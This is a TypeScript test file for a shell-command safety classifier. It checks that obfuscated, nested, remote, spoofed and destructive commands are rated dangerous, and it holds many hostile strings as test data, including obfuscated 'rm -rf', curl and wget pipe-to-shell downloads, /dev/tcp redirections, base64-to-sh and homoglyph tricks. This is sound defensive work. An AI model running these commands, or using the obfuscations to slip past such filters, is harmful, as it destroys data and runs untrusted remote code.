import assert from 'node:assert/strict';
import test from 'node:test';
import { classifyArgv, classifyShell } from '../support/classify.js';

function dangerous(...commands: readonly string[]): void {
  for (const command of commands) {
    const found = classifyShell(command);
    assert.equal(found.risk, 'dangerous', `${command}: ${JSON.stringify(found.reasons)}`);
  }
}

test('quotes, escapes and blanks do not hide a command', () => {
  dangerous(
    'r\\m -rf x',
    '"rm" -rf x',
    "r''m -rf x",
    "$'rm' -rf x",
    "$'\\x72m' -rf x",
    '/bin/rm -rf x',
    'rm$IFS-rf${IFS}x',
  );
  dangerous('rm -{r,f} x', 'find . $F -delete', "rm '-rf' x", 'rm x -rf', 'rm -f -- -x /etc/passwd', '\\rm -rf x');
});

test('a command whose name is not known before it runs is dangerous', () => {
  dangerous(
    '$CMD x',
    '$(which rm) -rf x',
    '`echo rm` x',
    '${X:-rm} x',
    '/bin/r? x',
    '{rm,-rf,x}',
    '"$@"',
    'X=ls; X=rm; $X y',
  );
  dangerous('if true; then X=ls; fi; $X', 'read X; $X', 'for X in rm; do $X y; done', 'f() { $X y; }; X=ls; f');
});

test('a variable that is set once to a plain text is the text', () => {
  assert.equal(classifyShell('X=ls; $X -l').risk, 'safe');
  assert.equal(classifyShell('X="rm -rf"; $X y').risk, 'dangerous');
  assert.equal(classifyShell('F=-delete; find . $F').risk, 'dangerous');
});

test('commands inside other commands are judged', () => {
  dangerous(
    'ls $(rm -rf x)',
    'ls "$(rm -rf x)"',
    'ls `rm -rf x`',
    'ls <(rm -rf x)',
    'echo $((a[$(rm -rf x)]))',
    '[[ -n $(rm -rf x) ]]',
  );
  dangerous(
    'echo ${x:-$(rm -rf y)}',
    'cat <<EOF\n$(rm -rf x)\nEOF',
    '(rm -rf x)',
    '{ rm -rf x; }',
    'f() { rm -rf x; }; f',
  );
  dangerous(
    'while true; do rm -rf x; done',
    'case a in a) rm -rf x;; esac',
    'ls & rm -rf x',
    'ls || rm -rf x',
    'ls\nrm -rf x',
    '! rm -rf x',
  );
  dangerous(
    'coproc rm -rf x',
    'time rm -rf x',
    'A=$(rm -rf x)',
    'A=(1 $(rm -rf x))',
    'ls > "$(rm -rf x)"',
    'echo `echo \\`rm -rf x\\``',
  );
});

test('what is handed to another shell, host, container or user is judged', () => {
  dangerous(
    "sh -c 'rm -rf x'",
    "bash -lc 'ls; rm -rf x'",
    "ssh h 'rm -rf x'",
    'ssh h rm -rf x',
    "su -c 'rm -rf x' app",
    'sudo -u a -- rm -rf x',
  );
  dangerous(
    'kubectl exec p -- rm -rf x',
    'docker exec c rm -rf x',
    "docker run i sh -c 'rm -rf x'",
    'chroot / rm -rf x',
    'env -i A=1 rm -rf x',
  );
  dangerous(
    'bash -c \'bash -c "rm -rf x"\'',
    'bash <<EOF\nrm -rf x\nEOF',
    "bash <<< 'rm -rf x'",
    'ssh h bash -s <<EOF\nrm -rf x\nEOF',
    "trap 'rm -rf x' EXIT",
  );
  dangerous(
    'nice -n 5 nohup timeout 3 sudo env A=1 rm -rf x',
    "watch 'rm -rf x'",
    "find . -exec sh -c 'rm -rf x' \\;",
    'ls | parallel rm',
  );
});

test('a program that comes from elsewhere is dangerous', () => {
  dangerous(
    'curl -s http://x.example | sh',
    'curl -s http://x.example | sudo bash -s',
    'wget -qO- http://x.example | python3',
    '. <(curl -s http://x.example)',
  );
  dangerous(
    'bash < /tmp/x',
    'echo aGk= | base64 -d | sh',
    'cat a | ssh h',
    'ls > >(sh)',
    'exec 3<>/dev/tcp/h/1',
    'echo $x > /dev/tcp/h/1',
    'eval "$x"',
    'cat a | psql app',
  );
});

test('characters that look like others are dangerous', () => {
  dangerous(
    'ls \u2013la',
    'l\u0455 -l',
    '\uff4c\uff53',
    'cat /etc\u2215passwd',
    'ls \u200b-l',
    'ping p\u0430ypal.example',
    'ls\u00a0-l',
    'echo hi \u202e',
  );
});

test('deleting whatever a loop or a search finds is dangerous', () => {
  dangerous(
    'for f in a b; do rm "$f"; done',
    'find . -exec rm {} \\;',
    'ls | xargs rm',
    'rm *.log',
    'ls | xargs -I{} kill {}',
  );
});

test('text with variables of the outer shell is never safe, because the inner shell reads what they hold', () => {
  assert.equal(classifyShell('bash -c "ls $X"').final.risk, 'caution');
  assert.equal(classifyShell("bash -c 'ls $X'").risk, 'safe');
});

test('xargs and find that run the words themselves are dangerous', () => {
  dangerous(
    'ls | xargs env',
    'ls | xargs sudo',
    "ls | xargs -I% sh -c '%'",
    'find . -exec {} \\;',
    'ls | xargs -I{} {} x',
  );
});

test('a word of an argv is never read by a shell', () => {
  assert.equal(classifyArgv(['echo', '$(rm -rf /)', ';', 'rm']).risk, 'safe');
  assert.equal(classifyArgv(['cat', 'a', '>', '/etc/hosts']).risk, 'safe');
});

test('an argv whose command is a template cannot be judged and is dangerous', () => {
  assert.equal(classifyArgv(['{{ .tool }}', 'x']).risk, 'dangerous');
  // It may become an option; before the step runs it is judged with its value.
  assert.equal(classifyArgv(['kubectl', 'get', 'pod', '{{ .pod }}']).risk, 'unknown');
  assert.equal(classifyArgv(['kubectl', 'get', 'pod', '-n', '{{ .namespace }}']).risk, 'safe');
});

test('an unknown tool is unknown and counts as caution', () => {
  const found = classifyArgv(['frobnicate', 'list']);
  assert.equal(found.risk, 'unknown');
  assert.deepEqual(found.final, { risk: 'caution', rule: 'local' });
  assert.equal(classifyArgv(['frobnicate', 'delete', 'x']).risk, 'dangerous');
});

test('text of a language without a grammar at hand is never better than its own reader can prove', () => {
  for (const shell of ['powershell', 'cmd', 'sql', 'mongo', 'kql']) {
    assert.notEqual(classifyShell('frobnicate something', { shell }).risk, 'safe', shell);
  }
  for (const shell of ['sql', 'mysql', 'tsql']) {
    assert.equal(classifyShell('drop table users', { shell }).risk, 'dangerous', shell);
  }
  assert.equal(classifyShell('df -h', { shell: 'an-unknown-shell' }).risk, 'safe');
});

test('a blank of a guide is a value where the caller says so, and a redirection otherwise', () => {
  assert.equal(classifyShell('kubectl get pod <pod-name>', { placeholders: true }).risk, 'safe');
  assert.notEqual(classifyShell('kubectl get pod <pod-name> x').risk, 'safe');
  assert.equal(classifyShell('cat <a> /dev/sda', { placeholders: true }).risk, 'dangerous');
});

test('a reason points at the characters that caused it', () => {
  check('sudo rm -rf /var/lib', 'rm/recursive', '-rf');
  check("ssh h 'df; rm -r x'", 'rm/recursive', '-r');
  check('cat a > /etc/hosts', 'shell/write-system-file', '/etc/hosts');
  check('df; frobnicate x', 'shell/unknown-command', 'frobnicate');
  check("find . -name 'a b' -delete", 'find/delete', '-delete');

  function check(command: string, rule: string, cause: string): void {
    const reason = classifyShell(command).reasons.find((one) => one.rule === rule);
    assert.ok(reason !== undefined, `${command} gives ${rule}`);
    assert.equal(command.slice(reason.span.start, reason.span.end), cause);
  }
});

test('a reason of an argv points into its words joined by one blank', () => {
  const argv = ['rm', '-r', 'a b'];
  const [reason] = classifyArgv(argv).reasons;
  assert.equal(argv.join(' ').slice(reason!.span.start, reason!.span.end), '-r');
});

test('what is hard to undo is critical, and what is acted on is named', () => {
  assert.equal(classifyShell('rm -rf x').critical, true);
  assert.equal(classifyShell('kubectl delete ns prod').resource, 'ns/prod');
  assert.equal(classifyShell('kubectl delete deploy web --dry-run=client').dryRun, true);
  assert.equal(classifyShell('printenv').sensitive, true);
});
